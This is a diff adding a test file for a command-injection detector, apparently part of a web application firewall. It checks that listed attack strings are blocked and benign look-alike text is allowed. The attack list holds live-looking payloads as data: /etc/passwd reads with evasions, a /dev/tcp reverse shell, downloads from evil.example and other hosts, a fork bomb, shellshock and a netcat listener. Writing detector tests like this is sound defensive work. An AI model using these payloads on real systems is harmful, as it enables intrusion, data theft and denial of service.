@@ -1,0 +1,109 @@
+import { describe, expect, it, beforeAll } from "vitest";
+import { loadHarness, type Harness } from "../support/harness.js";
+
+// Command injection detector (rules 4000-4999). Expected outcomes are stated per case:
+// attacks must reach the blocking threshold (5) at paranoia 1, benign look-alikes stay below it.
+let h: Harness;
+beforeAll(async () => {
+  h = await loadHarness();
+});
+
+const ARG = 2; // TargetKind.ArgValue
+const HEADER = 3; // TargetKind.Header
+
+function rceScore(input: string, kind = ARG, paranoia = 1): number {
+  const out = JSON.parse(h.callString("scanTarget", kind, kind === HEADER ? "header:user-agent" : "args:q", input, paranoia));
+  return out.matches.filter((m: { category: string }) => m.category === "rce").reduce((a: number, m: { id: number }) => a + (m.id === 4106 || m.id === 4107 || m.id === 4202 || m.id === 4307 ? 3 : 5), 0);
+}
+
+const attacks: [string, string][] = [
+  ["separator then reader with sensitive file", "; cat /etc/passwd"],
+  ["quote-split words", "; cat /et'c/pa'ss'wd"],
+  ["backslash evasion", "www.example.com;c\\at /etc/p\\asswd"],
+  ["positional parameters inside words", "host;c$@at /et$@c/pas$@swd"],
+  ["$IFS as a space", ";getent$IFS$9hosts$IFS$9example.net;echo$IFS$9$((3482*7301));"],
+  ["${IFS}", "x;cat${IFS}/etc/passwd"],
+  ["brace expansion", "{cat,/etc/passwd}"],
+  ["brace expansion inside a word", "{l,-lh}s /"],
+  ["downloader after separator", ";wget http://some_host/sh311.sh"],
+  ["and-list after an address", "127.0.0.1 && ls /etc"],
+  ["command substitution", "$(whoami)"],
+  ["backticks", "`id`"],
+  ["pipe to a shell", "echo foo | tr x o | sh"],
+  ["prefix command", "time sh -c whoami"],
+  ["quoted prefix", "ti''me curl example.org"],
+  ["absolute binary path", "/usr/bin/python3 -m http.server"],
+  ["globbed binary", "/???/??t /???/p??s??"],
+  ["glob classes", "cat /etc/pa[s]swd"],
+  ["reverse shell", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"],
+  ["shellshock", "() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'"],
+  ["fork bomb", ":(){ :|:& };:"],
+  ["SSI exec", '<!--#exec cmd="dir" -->'],
+  ["Windows for loop", "for /f \"delims=\" %i in ('cmd /c set') do echo %i"],
+  ["Windows if exist", "IF EXIST C:\\pagefile.sys ECHO found"],
+  ["Windows if comparison", 'if "%VAR%" == "after" @echo ok'],
+  ["Windows carets", "&w^h^o^a^m^i"],
+  ["PowerShell cmdlet", "Invoke-WebRequest http://example.com/path/file.ps1"],
+  ["certutil download", "; certutil -urlcache -f http://evil.example/payload.exe"],
+  ["Perl interpolation", "@{[system 'id']}"],
+  ["Ruby spawn", 'Process.spawn("id")'],
+  ["arithmetic expansion", "$((7*7))"],
+  ["tilde expansion", "~+"],
+  ["alias", "alias a=curl"],
+  ["SMTP injection", "\r\nRCPT TO:<postmaster@example.com>"],
+  ["IMAP injection", "\r\na001 EXAMINE INBOX"],
+  ["variables as commands", "a=nc&&$a -nlvp 555"],
+  ["interpreter one-liner", "perl -e 'print 1'"],
+  ["config management tool", "ansible-playbook site.yml\n"],
+];
+
+const benign: [string, string][] = [
+  ["prose with cat", "My cat is called Felix; cat people are the best"],
+  ["pipes in text", "price | quality | service were all fine"],
+  ["code snippet with &&", "if (a && b) { return c; }"],
+  ["markdown code span", "`type`, when used in a schema has special meaning"],
+  ["markdown install line", "- `npm install --save-optional bufferutil`: binary addons"],
+  ["man page synopsis", "chmod [OPTION]... OCTAL-MODE FILE..."],
+  ["man page prose", "If the file does not exist it is created; if it does exist it is truncated."],
+  ["English if", "If not defined, the default value is used"],
+  ["JS if comparison", "if (err == null) callback()"],
+  ["URL with query", "https://www.example.com/x?s=2014&ex=7&sort=ex"],
+  ["field value base64", "base64"],
+  ["field value lastlog", "lastlog"],
+  ["user agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"],
+  ["O'Brien", "O'Brien"],
+  ["shell docs", "string1 != string2 True if the strings are not equal.\n\nBash attempts to determine when it is being run; it reads /etc/bash.bashrc"],
+  ["search term", "python tutorial"],
+  ["markdown bullets", "* fixed a bug\n* added tests"],
+  ["time in prose", "time flies like an arrow"],
+  ["JSON-ish braces", "{a:1,b:2}"],
+  ["email", "jane.doe@example.com"],
+];
+
+describe("rce detector", () => {
+  for (const [name, input] of attacks) {
+    it(`blocks: ${name}`, () => {
+      expect(rceScore(input)).toBeGreaterThanOrEqual(5);
+    });
+  }
+  for (const [name, input] of benign) {
+    it(`allows: ${name}`, () => {
+      expect(rceScore(input)).toBeLessThan(5);
+    });
+  }
+  it("blocks a lone recon command in a header but not a lone word in a field", () => {
+    expect(rceScore("visudo", HEADER)).toBeGreaterThanOrEqual(5);
+    expect(rceScore("lastlogin", ARG)).toBeLessThan(5);
+  });
+  it("never traps on random bytes", () => {
+    let seed = 12345;
+    const rand = () => ((seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff);
+    const alphabet = ";|&`$(){}[]<>'\"\\^~!@#%*?=/-.:, \n\r\tabcdefghijklmnopqrstuvwxyzIFS0123456789";
+    for (let n = 0; n < 300; n++) {
+      let s = "";
+      const len = Math.floor(rand() * 200);
+      for (let i = 0; i < len; i++) s += alphabet[Math.floor(rand() * alphabet.length)];
+      expect(() => h.callString("scanTarget", ARG, "args:q", s, 4)).not.toThrow();
+    }
+  });
+});
